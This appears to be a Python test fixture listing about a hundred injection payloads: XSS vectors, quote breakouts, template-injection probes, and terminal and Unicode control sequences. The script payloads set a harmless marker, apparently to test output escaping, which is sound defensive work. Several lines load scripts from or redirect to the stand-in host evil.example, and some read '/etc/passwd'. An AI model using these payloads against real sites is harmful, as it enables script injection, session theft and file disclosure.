"""A hundred texts that do harm where a page takes them for anything but text."""

_SCRIPTS = (
    "<script>MARK</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>MARK</script>",
    "</title><script>MARK</script>",
    "</textarea><script>MARK</script>",
    "</style><script>MARK</script>",
    "</template><script>MARK</script>",
    "</pre><script>MARK</script>",
    "</noscript><script>MARK</script>",
    "--><script>MARK</script>",
    "]]><script>MARK</script>",
    "<scr<script>ipt>MARK</scr</script>ipt>",
    "<script\x20type=module>MARK</script>",
    "<script\n>MARK</script\n>",
    "%3Cscript%3EMARK%3C/script%3E",
    "&lt;script&gt;MARK&lt;/script&gt;",
    "&#60;script&#62;MARK&#60;/script&#62;",
    "\\u003cscript\\u003eMARK\\u003c/script\\u003e",
    "<script>MARK//",
    "\ufeff<script>MARK</script>",
)
_EVENTS = tuple(
    f"<{tag} {event}=MARK>"
    for tag, event in (
        ("img src=x", "onerror"),
        ("body", "onload"),
        ("input autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("marquee", "onstart"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("button autofocus", "onfocus"),
        ("a href=# id=x", "onclick"),
        ("div style='animation-name:x'", "onanimationstart"),
        ("iframe", "onload"),
        ("object data=x", "onerror"),
        ("link rel=stylesheet href=x", "onerror"),
        ("style", "onload"),
        ("form", "onsubmit"),
        ("dialog open", "oncancel"),
        ("img src=x:x", "onerror"),
        ("p tabindex=1 autofocus", "onfocusin"),
    )
)
_SVG = (
    "<svg onload=MARK>",
    "<svg><script>MARK</script></svg>",
    "<svg><animate onbegin=MARK attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:MARK'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=MARK>#x'/></svg>",
    "<svg><foreignObject><body onload=MARK></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:MARK></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=MARK>",
    "<svg></p><style><a id='</style><img src=1 onerror=MARK>'>",
    "<svg><style><img/src=x onerror=MARK></style></svg>",
)
_ADDRESSES = (
    "javascript:MARK",
    "JaVaScRiPt:MARK",
    "java\tscript:MARK",
    "data:text/html,<script>MARK</script>",
    "vbscript:MARK",
    "<a href='javascript:MARK'>x</a>",
    "<iframe src='javascript:MARK'></iframe>",
    "<iframe srcdoc='<script>MARK</script>'></iframe>",
    "<object data='javascript:MARK'>",
    "<embed src='data:text/html,<script>MARK</script>'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:MARK'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action='//evil.example'><button autofocus>x</button></form>",
    "[x](javascript:MARK)",
    "<link rel=import href='//evil.example'>",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "<img src='//evil.example/pixel.png'>",
    "<style>@import '//evil.example/x.css';</style>",
)
_QUOTES = (
    '" onmouseover="MARK',
    "' onmouseover='MARK",
    '"><img src=x onerror=MARK>',
    "'><img src=x onerror=MARK>",
    "` onmouseover=`MARK",
    '" autofocus onfocus=MARK x="',
    '\\"});MARK;//',
    "'-MARK-'",
    "\u2028MARK\u2029",
    'x\x00" onload=MARK',
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config.items() }}",
    "{% for x in [].__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "${MARK}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('MARK')()}}",
    "{# comment #}",
    "{% include '/etc/passwd' %}",
)
_TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x08\x08\x08",
)
_DIRECTIONS = (
    "\u202egpj.exe",
    "\u2066\u202etxet\u2069",
    "\u2067hidden\u2069",
    "\u200b\u200c\u200dzero width",
    "\ufeff\ufffe\uffff",
)

PAYLOADS = tuple(
    text.replace("MARK", "window.ran=1")
    for text in (
        *_SCRIPTS,
        *_EVENTS,
        *_SVG,
        *_ADDRESSES,
        *_QUOTES,
        *_TEMPLATES,
        *_TERMINAL,
        *_DIRECTIONS,
    )
)
"""Each that runs sets `window.ran`."""
